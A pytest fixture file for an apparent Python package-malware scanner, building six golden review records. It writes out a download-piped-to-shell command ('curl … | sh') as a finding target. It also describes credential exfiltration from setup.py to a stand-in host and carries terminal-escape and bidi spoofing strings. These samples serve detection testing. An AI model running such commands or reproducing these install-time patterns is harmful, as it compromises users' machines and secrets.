"""Six canonical reviews, built by hand so that no change of the engine moves their goldens."""

from __future__ import annotations

import pytest

from pratique.model import (
    Artifact,
    Cost,
    Entry,
    Explanation,
    Finding,
    Flow,
    LayerNote,
    Package,
    Problem,
    ReadNote,
    Reason,
    Review,
    Step,
    Unknown,
    Use,
    Verdict,
    Where,
)

CANONICAL = ("clear", "note", "look", "block", "policy", "hostile")
ROOT = "acme_utils-2.4.1/"


def at(path: str, line: int = 0, *inner: str) -> Where:
    return Where(segments=(path, *inner), line=line)


def step(path: str, line: int, text: str, *inner: str) -> Step:
    return Step(where=at(path, line, *inner), text=text)


def finding(rule: str, summary: str, path: tuple[Step, ...], **more) -> Finding:
    settings = {
        "severity": "critical",
        "confidence": "high",
        "audience": "admin",
        "line": "flow",
        "category": "malware",
        "trigger": "install",
        "primary": path[-1].where,
        "explanation": Explanation(text=summary),
        "fingerprint": f"{rule}-1",
    }
    return Finding(rule=rule, summary=summary, path=path, **(settings | more))


def use(number: int, capability: str, where: Where, trigger: str = "import", **more) -> Use:
    step = Step(where=where, text="calls it")
    return Use(
        id=number,
        capability=capability,
        api="acme.api",
        where=where,
        scope="0",
        triggers=(trigger,),
        entries=(0,),
        path=(step,),
        **more,
    )


def artifact(kind: str, name: str = "acme-utils", version: str = "2.4.1") -> Artifact:
    stem = f"{name.replace('-', '_')}-{version}"
    filename = {"sdist": f"{stem}.tar.gz", "wheel": f"{stem}-py3-none-any.whl", "folder": name}[kind]
    sha256 = "0123456789abcdef" * 4 if kind != "folder" else ""
    package = Package(ecosystem="pypi", name=name, version=version if kind != "folder" else "")
    return Artifact(package=package, filename=filename, kind=kind, sha256=sha256, size=12_345 if sha256 else 0)


READ = ReadNote(files=12, bytes=34_567, code_files=7, code_bytes=23_456, data_files=5)
COST = Cost(cpu_s=0.3, wall_s=0.4, peak_mb=50.0, functions=1914, cached_functions=700)


def clear() -> Review:
    uses = (
        use(0, "env.read", at("acme_utils/env.py", 3), "call"),
        use(1, "fs.read", at("acme_utils/io.py", 9), "call", operand="package-data"),
    )
    return Review(
        artifact=artifact("wheel"),
        verdict=Verdict(level="clear"),
        uses=uses,
        read=READ,
        cost=COST,
        engine="e1",
        entries=(Entry(trigger="import", segments=("acme_utils/__init__.py",), via="import acme_utils"),),
    )


def note() -> Review:
    reason = Reason(
        rule="unresolved",
        text="decides at run time what it does: builtins.exec of a value that is not constant",
        points=0.0,
        share=1.0,
    )
    unknown = Unknown(kind="unresolved", reason="builtins.exec of a value that is not constant", where=at("six.py", 88))
    return Review(
        artifact=artifact("folder"),
        verdict=Verdict(level="note", score=0.02, reasons=(reason,)),
        unknowns=(unknown,),
        uses=(use(0, "code.eval", at("six.py", 88)),),
        read=READ,
        cost=Cost(wall_s=0.05, cached_files=7, functions=40, cached_functions=33),
        suppressed=2,
    )


def look() -> Review:
    path = (step("acme_utils/__init__.py", 1, "import acme_utils"), step("acme_utils/__init__.py", 4, "subprocess.run"))
    found = finding(
        "pipe-a-download-into-a-shell",
        "pipes a download into an interpreter",
        path,
        trigger="import",
        target="curl https://files.acme.invalid/a | sh",
        times=2,
        certainty="assumed",
    )
    reason = Reason(rule=found.rule, text=found.summary, points=6.0, share=1.0, fingerprint=found.fingerprint)
    cap = "held at look instead of block: block needs 2 independent lines of evidence, and there is only flow"
    opaque = tuple(Unknown(kind="opaque", reason="a native ELF binary", where=at(f"acme_utils/_{n}.so")) for n in "abc")
    refused = Unknown(
        kind="refused", reason="encrypted", where=at("acme_utils/data.zip", 0, "x.py"), triggers=("import",)
    )
    return Review(
        artifact=artifact("wheel"),
        verdict=Verdict(level="look", category="malware", score=0.88, reasons=(reason,), cap=cap, complete=False),
        findings=(found,),
        unknowns=(*opaque, refused),
        uses=(use(0, "process.spawn", at("acme_utils/__init__.py", 4), operand="shell"),),
        problems=(
            Problem(
                code="zip-encrypted", severity="odd", segments=("acme_utils/data.zip",), detail="x.py is encrypted"
            ),
        ),
        read=ReadNote(
            files=12, bytes=34_567, code_files=6, code_bytes=23_456, data_files=2, opaque_files=3, refused_files=1
        ),
        cost=COST,
    )


def block() -> Review:
    head = (step(ROOT + "setup.py", 41, "cmdclass install"), step(ROOT + "setup.py", 12, "calls collect()"))
    sink = step(ROOT + "acme_utils/_t.py", 19, "urllib.request.urlopen")
    flow = (
        step(ROOT + "acme_utils/_t.py", 12, "builtins.open().read()"),
        step(ROOT + "acme_utils/_t.py", 19, "into urllib.request.urlopen (data)"),
    )
    send = finding(
        "send-secrets-out",
        "reads secrets and sends them out",
        (*head, sink, *flow),
        primary=sink.where,
        target="https://stats.acme.invalid/v",
        traits=("encoded",),
        attack=("T1041",),
        capabilities=("network.http",),
    )
    hide = finding(
        "reach-out-from-a-hidden-layer",
        "hides network use in decoded code",
        (*head, sink),
        line="concealment",
        target="https://stats.acme.invalid/v",
        traits=("encoded", "layered"),
        related=(at(ROOT + "setup.py", 3),),
    )
    start = finding(
        "run-code-at-every-start",
        "runs code whenever Python starts",
        (step(ROOT + "a.pth", 1, ".pth line 1"),),
        trigger="startup",
        severity="high",
    )
    few = finding("evade-analysis", "looks for sandboxes", (head[0],), confidence="medium", trial=True, standing=True)
    reasons = tuple(
        Reason(rule=one.rule, text=one.summary, points=points, share=points / 14, fingerprint=one.fingerprint)
        for one, points in ((send, 6.0), (hide, 6.0), (start, 2.0))
    )
    other = Reason(
        rule="use-the-network-at-install",
        text="uses the network while it is installed",
        points=0.0,
        share=0.0,
        fingerprint="x",
    )
    layer = LayerNote(
        segments=(ROOT + "acme_utils/_t.py", "<layer 1: base64+zlib>"),
        codecs=("base64", "zlib"),
        language="python",
        size=1_234,
        sha256="f" * 64,
        preview="import os\nimport sys\n\nprint('hello')\nprint('again')\n",
        line=7,
    )
    uses = (
        use(0, "fs.read", at(ROOT + "acme_utils/_t.py", 12), "install", operand="cloud-credential"),
        use(1, "network.http", at(ROOT + "acme_utils/_t.py", 19), "install"),
        use(2, "fs.write", at(ROOT + "acme_utils/io.py", 5), "call"),
        use(3, "reflect", at(ROOT + "acme_utils/io.py", 6), "call", operand="computed"),
        use(4, "process.spawn", at(ROOT + "acme_utils/io.py", 7), "call", certainty="assumed"),
    )
    flows = (
        Flow(
            source="fs.read",
            source_operand="cloud-credential",
            source_where=flow[0].where,
            sink=1,
            sink_arg="data",
            steps=flow,
        ),
    )
    return Review(
        artifact=artifact("sdist"),
        verdict=Verdict(level="block", category="malware", score=0.99, reasons=(*reasons, other)),
        findings=(hide, send, start, few),
        uses=uses,
        flows=flows,
        layers=(layer,),
        read=ReadNote(files=12, bytes=34_567, code_files=7, code_bytes=23_456, data_files=5, layers=1),
        cost=COST,
        suppressed=1,
        entries=(Entry(trigger="install", segments=(ROOT + "setup.py",), via="setup.py"),),
        engine="e1",
        context="c1",
    )


def policy() -> Review:
    path = (step("acme_utils/__init__.py", 0, "import acme_utils"),)
    found = finding(
        "ship-protected-code",
        "ships protected code",
        path,
        category="policy",
        line="policy",
        trigger="import",
        severity="low",
    )
    reason = Reason(rule=found.rule, text=found.summary, points=1.0, share=1.0, fingerprint=found.fingerprint)
    return Review(
        artifact=artifact("wheel"),
        verdict=Verdict(level="note", category="policy", score=0.05, reasons=(reason,)),
        findings=(found,),
        read=READ,
        cost=COST,
    )


def hostile() -> Review:
    """Everything that a package may say tries to steer the terminal, to hide, or to pass for ours."""
    evil = "acme\u202e\x1b[31m/\u200b\n  CLEAR  acme\x00.py"
    path = (step(evil, 3, "calls f\x1b]0;title\x07()"), step("包裹/模块_" + "很长" * 30 + ".py", 9, "os.system"))
    found = finding(
        "run-a-hidden-command",
        "runs a hidden command",
        path,
        target="sh -c '\x1b[2J'\u2066\ue000 " + "a" * 200 + "\ufffc",
    )
    reason = Reason(rule=found.rule, text=found.summary, points=6.0, share=1.0, fingerprint=found.fingerprint)
    layer = LayerNote(
        segments=(evil, "<layer 1: text>"),
        codecs=("base64",),
        language="python",
        size=9,
        sha256="e" * 64,
        preview="\x1b[1;1Hok\r\u2028x = '\u0e49\u0e49\u0e49\u0e49'\n\ufe0f\U000e0101",
        line=1,
    )
    named = Artifact(
        package=Package(ecosystem="pypi", name="acme\x1b[0m"),
        filename="acme\u202ewhl.\x1b[0m",
        kind="wheel",
        sha256="0" * 64,
        size=1,
    )
    return Review(
        artifact=named,
        verdict=Verdict(level="look", category="malware", score=0.6, reasons=(reason,)),
        findings=(found,),
        layers=(layer,),
        unknowns=(Unknown(kind="refused", reason="bad\x1b", where=at(evil)),),
        read=READ,
        cost=COST,
        problems=(
            Problem(code="name-bidi", severity="hostile", segments=(evil,), detail=repr(evil)),
            Problem(code="odd", severity="odd", segments=(), detail="\x9b31m"),
        ),
    )


@pytest.fixture(params=CANONICAL)
def name(request) -> str:
    return request.param


@pytest.fixture
def canonical(name) -> Review:
    return globals()[name]()


@pytest.fixture
def all_six() -> list[Review]:
    return [globals()[name]() for name in CANONICAL]
